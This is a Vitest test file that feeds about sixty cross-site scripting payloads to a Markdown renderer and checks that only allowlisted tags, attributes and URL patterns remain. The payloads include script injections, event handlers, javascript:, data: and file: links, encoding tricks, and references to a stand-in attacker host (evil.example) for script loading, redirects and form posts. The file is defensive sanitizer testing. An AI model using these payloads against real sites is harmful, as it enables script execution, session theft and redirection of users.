import { load } from 'cheerio'
import { expect, it } from 'vitest'
import { htmlOfMarkdown } from '~/platform/markdown/markdown.server'
import type { Element } from '../../support/browser/plain-page'

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/media/a" onload="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel="stylesheet" href="//evil.example/a.css">',
  '<style>body{background:url(//evil.example)}</style>',
  '<form action="//evil.example"><button>Send</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a href="javascript:alert(1)">x</a>',
  '<p style="position:fixed;inset:0">x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\tjavascript:alert(1))',
  '[x](java\u0000script:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:http://localhost/1)',
  '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x" onerror="alert(1)](/media/a)',
  '![x](/media/a"onerror="alert(1))',
  '![x](/media/a "</figcaption><script>alert(1)</script>")',
  '![x](//evil.example/media/a)',
  '[<img src=x onerror=alert(1)>](https://youtu.be/abc)',
  '[x](https://youtu.be/abc"onclick="alert(1))',
  '<https://youtu.be/"onclick="alert(1)>',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x]: /media/a "\\"><script>alert(1)</script>"\n\n![x]',
  '# <img src=x onerror=alert(1)>',
  '# "><script>alert(1)</script>',
  '```html"onload="alert(1)\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
]

it.each(payloads)('the Markdown payload %j is harmless', (markdown) => {
  for (const text of [markdown, `Before ${markdown} after`, `> ${markdown}`, `- ${markdown}`]) {
    const $ = load(htmlOfMarkdown(text), null, false)
    for (const one of $('*').toArray()) {
      const element = one as Element
      expect(allowed, text).toContain(element.tagName)
      for (const [name, value] of Object.entries(element.attribs)) {
        expect(attributes, `${name} in ${text}`).toContain(name)
        if (name === 'src') expect(value).toMatch(/^\/media\/[\w/.-]+$/)
        if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:|tel:|\/(?!\/)|#|[\w%])/)
        if (name === 'href')
          expect(value).not.toMatch(/^\s*(?:javascript|vbscript|data|file|blob):/i)
      }
    }
  }
})

it('more than forty Markdown payloads are tested', () => {
  expect(new Set(payloads).size).toBeGreaterThanOrEqual(40)
})

const allowed = [
  ...['h2', 'h3', 'p', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code', 'hr', 'br', 'strong', 'em'],
  ...['a', 'span', 'img', 'figure', 'figcaption', 'table', 'thead', 'tbody', 'tr', 'th', 'td'],
]
const attributes = [
  'id',
  'href',
  'rel',
  'class',
  'src',
  'alt',
  'loading',
  'decoding',
  'aria-hidden',
]
